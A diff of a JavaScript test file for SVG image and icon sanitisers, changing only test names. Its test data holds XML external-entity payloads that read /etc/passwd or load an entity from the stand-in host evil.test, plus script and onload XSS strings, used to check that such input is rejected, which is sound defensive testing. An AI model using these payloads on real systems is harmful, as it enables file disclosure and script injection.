@@ -67,7 +67,7 @@ describe('a drawing from the backend', () => {
     '<svg>',
     '<svg xmlns="http://www.w3.org/2000/svg"><text>x</text></svg>',
     '<svg><rect/></svg>',
-  ])('F106 F190 %j is not a drawing, so it is neither an image nor an icon', (source) => {
+  ])('F106 F190 rejects %j', (source) => {
     expect(svgImage(source)).toBeNull();
     expect(svgIcon(source)).toBeNull();
   });
@@ -76,7 +76,7 @@ describe('a drawing from the backend', () => {
     '<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>',
     '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
     '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % x SYSTEM "//evil.test"> %x;]>',
-  ])('F106 refuses a drawing with entities: %s', (doctype) => {
+  ])('F106 rejects a drawing with entities: %s', (doctype) => {
     expect(svgImage(doctype + svg('<g>x</g>'))).toBeNull();
     expect(svgIcon(doctype + svg('<g>x</g>'))).toBeNull();
   });
@@ -88,7 +88,7 @@ describe('an icon from the backend', () => {
     expect(icon(svg(hostile, 'onload="alert(1)"'))).not.toMatch(signs);
   });
 
-  test.each(styled)('F106 stays an image if shapes alone would look different: %s', (hostile) => {
+  test.each(styled)('F106 stays an image if its shapes alone would look different: %s', (hostile) => {
     expect(svgIcon(svg(hostile))).toBeNull();
   });
 
